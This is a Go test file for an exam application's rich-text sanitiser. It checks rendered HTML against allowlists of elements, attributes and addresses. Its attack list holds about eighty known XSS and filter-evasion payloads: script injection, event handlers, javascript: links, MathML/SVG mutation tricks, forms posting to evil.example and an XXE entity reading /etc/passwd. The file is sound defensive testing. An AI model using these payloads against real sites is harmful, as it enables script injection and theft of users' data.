package richtext_test

import (
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"shiken/exam"
	"shiken/richtext"
)

// attacks are the well-known ways of bringing script or style past a sanitiser (OWASP's filter
// evasion sheet, html5sec, and the parser mutations found in DOMPurify), as they may stand in HTML
// and in Markdown.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<img src="//evil.example/x.png">`,
	`<img src="\\evil.example\x.png">`,
	`<img src="/logout">`,
	`<img src="/media/../logout">`,
	`<img src="https://evil.example/x.png">`,
	`<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
	`<img src="data:image/png,<svg onload=alert(1)>">`,
	`<img src="data:text/html;base64,PHNjcmlwdD4=">`,
	`<img srcset="https://evil.example/x.png 2x">`,
	"<img src='/media/x' style='position:fixed;inset:0'>",
	`<a href="javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:x">x</a>`,
	`<a href="//evil.example">x</a>`,
	`<a href="/attempts/1/submit">x</a>`,
	`<a href="https://a.example" onclick="x()" style="position:fixed" ping="https://evil.example">x</a>`,
	`<svg onload=alert(1)><animate onbegin=alert(1)></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<textarea><img src=x onerror=alert(1)></textarea>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<style>@import "//evil.example/x.css";</style>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<base href="//evil.example/">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,x"></object><embed src="//evil.example">`,
	`<form action="//evil.example"><input name=password><button formaction="//evil.example">x</button></form>`,
	`</div></form><form action="//evil.example"><input type=submit>`,
	`<div id="stem" name="answer" class="error" role="alert" aria-hidden="true" data-outcome="applied">x</div>`,
	`<input name="command_id" value="x"><input name=answer form=main>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>`,
	`<p style="background:url(//evil.example)">x</p>`,
	`<table background="//evil.example"><td background="//evil.example" style="x">x</td></table>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	"<p title=`><script>alert(1)</script>`>x</p>",
	`<abbr title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</abbr>`,
	`<plaintext><script>alert(1)</script>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`[x](javascript:alert(1))`,
	`[x](<java script:alert(1)>)`,
	`![x](javascript:alert(1))`,
	`![x](https://evil.example/x.png "t")`,
	`<javascript:alert(1)>`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	"```\"><script>alert(1)</script>\nx\n```",
	// Parsers that change from MathML to HTML and back.
	`<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>"></style></h1>`,
	`<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=alert(1)>"></style></annotation-xml></math>`,
	`<math><mi><!--</mi><mtext>--><img src onerror=alert(1)></mtext></math>`,
	`<svg></p><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math></svg>`,
	`<math><mi>x</mi><script>alert(1)</script><mtext><script>alert(1)</script>y</mtext></math>`,
	`<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)"><mi>CLICK</mi></maction></math>`,
	`<math href="javascript:alert(1)" xlink:href="javascript:alert(1)"><mi href="javascript:alert(1)" onclick="x()" style="x" id="stem">x</mi></math>`,
	`<math><mspace width="-999em"/><mpadded voffset="-50em" lspace="-50em"><mtext>Submit</mtext></mpadded></math>`,
	`<math><mi>&lt;img src onerror=alert(1)&gt;</mi><mtext>&lt;/mtext&gt;&lt;script&gt;alert(1)&lt;/script&gt;</mtext></math>`,
	`<math><mi></math><img src onerror=alert(1)></mi></math>`,
	`<table><math><mi>x</mi></math><tr><td><math><mi>y</mi></math></table>`,
	`<select><math><mi>x</mi></math></select><textarea><math><mi>x</mi></math></textarea>`,
	`$<img src onerror=alert(1)>$ \(</math><script>alert(1)</script>\)`,
	`$\text{</mtext></math><img src onerror=alert(1)>}$`,
	`$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{error}{x}$ $\html{<script>}$`,
	"\uFDD0t<img src onerror=alert(1)>\uFDD1 &#xFDD0;t<b>&#xFDD1; &#xFDD0;m0&#xFDD1; &#xFDD0;m99999999999999999999&#xFDD1;",
	`<math><mi>x</mi></math>&#xFDD0;m0&#xFDD1;<img alt="&#xFDD0;m0&#xFDD1; &#xFDD0;t\frac&#xFDD1;" src="/media/a.png">`,
	`<audio src="https://evil.example/x.mp3" autoplay controls onplay=alert(1)></audio><video src="/media/x.html" poster="//evil.example/x"></video>`,
	`<audio><source src="javascript:alert(1)"><track src="//evil.example"><img src=x onerror=alert(1)></audio>`,
}

func TestAttacks(t *testing.T) {
	r := richtext.New()
	for _, attack := range attacks {
		for _, format := range []exam.TextFormat{exam.Plain, exam.Markdown, exam.HTML} {
			checkSafe(t, r, text(format, attack))
		}
	}
}

func FuzzSafe(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	r := richtext.New()
	f.Fuzz(func(t *testing.T, source string) {
		for _, format := range []exam.TextFormat{exam.Plain, exam.Markdown, exam.HTML} {
			checkSafe(t, r, text(format, source))
		}
	})
}

// allowed lists, apart from the package's own policy, what may come out: elements, and the
// attributes of each.
var allowed = map[string][]string{
	"a": {"href", "rel", "target"}, "img": {"src", "alt", "width", "height"}, "abbr": {"title"}, "dfn": {"title"},
	"ol": {"start", "type", "reversed"}, "li": {"value"}, "tr": {"align"}, "td": {"colspan", "rowspan", "align"},
	"th": {"colspan", "rowspan", "align", "scope"}, "audio": {"src", "controls", "preload"},
}

// formulas lists what may come out within a formula, apart from package mathml's own list.
var formulas = map[string][]string{
	"math": {"display", "dir"}, "mi": {"mathvariant"}, "mn": nil, "mtext": nil, "mspace": {"width"},
	"mo":   {"form", "stretchy", "fence", "separator", "symmetric", "largeop", "movablelimits", "lspace", "rspace", "minsize", "maxsize"},
	"mrow": nil, "mfrac": {"linethickness"}, "msqrt": nil, "mroot": nil, "mstyle": {"displaystyle", "scriptlevel"}, "mphantom": nil,
	"menclose": {"notation"}, "msub": nil, "msup": nil, "msubsup": nil, "munder": {"accentunder"}, "mover": {"accent"},
	"munderover": {"accent", "accentunder"}, "mmultiscripts": nil, "mprescripts": nil, "none": nil, "mtable": {"displaystyle"},
	"mtr": nil, "mtd": {"columnspan", "rowspan", "class"},
}

// word is all that an attribute within a formula may say.
var word = regexp.MustCompile(`^[a-z0-9.+ -]{1,30}$`)

var bare = strings.Fields(`p div br hr wbr span h3 h4 h5 h6 b strong i em u s del ins small mark sub sup cite q code
	pre kbd samp var blockquote figure figcaption bdi ul dl dt dd table caption thead tbody tfoot ruby rb rt rp rtc`)

// checkSafe reads what was rendered the way a browser reads it within the page, and judges each
// element that it then finds.
func checkSafe(t *testing.T, r *richtext.Renderer, in exam.Text) {
	t.Helper()
	for _, out := range []richtext.HTML{r.Block(in), r.Inline(in)} {
		page := "<!doctype html><body><main><div id=around>" + string(out) + "</div><p id=after></p></main>"
		doc, err := html.Parse(strings.NewReader(page))
		if err != nil {
			t.Fatalf("%q → %q: %v", in, out, err)
		}
		around, after := byID(doc, "around"), byID(doc, "after")
		if around == nil || after == nil || around.Parent != after.Parent {
			t.Fatalf("%q → %q: leaves its element", in, out)
		}
		for n := range around.Descendants() {
			if fault := judge(n); fault != "" {
				t.Fatalf("%q → %q: %s", in, out, fault)
			}
		}
	}
}

func byID(doc *html.Node, id string) *html.Node {
	for n := range doc.Descendants() {
		if slices.Contains(n.Attr, html.Attribute{Key: "id", Val: id}) {
			return n
		}
	}
	return nil
}

func judge(n *html.Node) string {
	switch n.Type {
	case html.TextNode:
		return ""
	case html.ElementNode:
	default:
		return "a node that is neither text nor element: " + n.Data
	}
	if n.Namespace == "math" {
		return judgeFormula(n)
	}
	attributes, known := allowed[n.Data]
	if n.Namespace != "" || !known && !slices.Contains(bare, n.Data) {
		return "element " + n.Data
	}
	for _, a := range n.Attr {
		if !slices.Contains(attributes, a.Key) && a.Key != "lang" && a.Key != "dir" {
			return "attribute " + a.Key + " of " + n.Data
		}
		if a.Key == "href" && !leadsAway(a.Val) || a.Key == "src" && n.Data == "audio" != isSound(a.Val) || a.Key == "src" && n.Data == "img" && !isPicture(a.Val) {
			return "address " + a.Val
		}
	}
	return ""
}

// judgeFormula judges an element of a formula. Its parts are all of one kind: below elements that hold text
// there is text alone, and below all others elements of formulas alone.
func judgeFormula(n *html.Node) string {
	attributes, known := formulas[n.Data]
	if !known {
		return "element " + n.Data + " in a formula"
	}
	for _, a := range n.Attr {
		if !slices.Contains(attributes, a.Key) || !word.MatchString(a.Val) || strings.HasPrefix(a.Val, "-") && a.Val > "-1" {
			return "attribute " + a.Key + "=" + a.Val + " of " + n.Data
		}
	}
	holdsText := slices.Contains([]string{"mi", "mn", "mo", "mtext"}, n.Data)
	for child := range n.ChildNodes() {
		if holdsText && child.Type != html.TextNode || !holdsText && (child.Type != html.ElementNode || child.Namespace != "math") {
			return "in " + n.Data + " of a formula: " + child.Data
		}
	}
	return ""
}

func leadsAway(address string) bool {
	address = strings.ToLower(address)
	return strings.HasPrefix(address, "https://") || strings.HasPrefix(address, "http://") || strings.HasPrefix(address, "mailto:")
}

func isSound(address string) bool {
	return strings.HasPrefix(address, "/media/") && slices.Contains([]string{".mp3", ".wav", ".ogg", ".m4a"}, path.Ext(address))
}

func isPicture(address string) bool {
	if name, stored := strings.CutPrefix(address, "/media/"); stored {
		return !strings.Contains(name, "/")
	}
	for _, kind := range []string{"png", "jpeg", "gif", "webp"} {
		if strings.HasPrefix(address, "data:image/"+kind+";base64,") {
			return true
		}
	}
	return false
}
